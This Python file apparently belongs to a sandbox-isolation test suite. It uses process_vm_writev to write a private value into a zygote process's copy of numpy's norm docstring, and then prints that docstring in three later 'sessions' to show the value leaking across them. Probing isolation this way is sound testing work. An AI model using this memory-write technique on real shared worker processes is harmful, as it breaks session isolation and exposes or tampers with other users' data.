# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Write into the zygote's memory, so that every later query inherits it.

A forked worker knows by its own addresses where everything lies in the zygote.
"""

# act: leak
# needs: tracing

import ctypes
import sys

libc = ctypes.CDLL(None, use_errno=True)
text = np.linalg.norm.__doc__
address = id(text) + sys.getsizeof(text) - len(text) - 1
new = ctypes.create_string_buffer(PRIVATE.encode())
local = (ctypes.c_uint64 * 2)(ctypes.addressof(new), len(PRIVATE))
remote = (ctypes.c_uint64 * 2)(address, len(PRIVATE))
if libc.process_vm_writev(ZYGOTE_PID, local, 1, remote, 1, 0) < 0:
    raise OSError(ctypes.get_errno(), 'process_vm_writev')
# %% next session
print(np.linalg.norm.__doc__[:40])
# %% next session
print(np.linalg.norm.__doc__[:40])
# %% next session
print(np.linalg.norm.__doc__[:40])
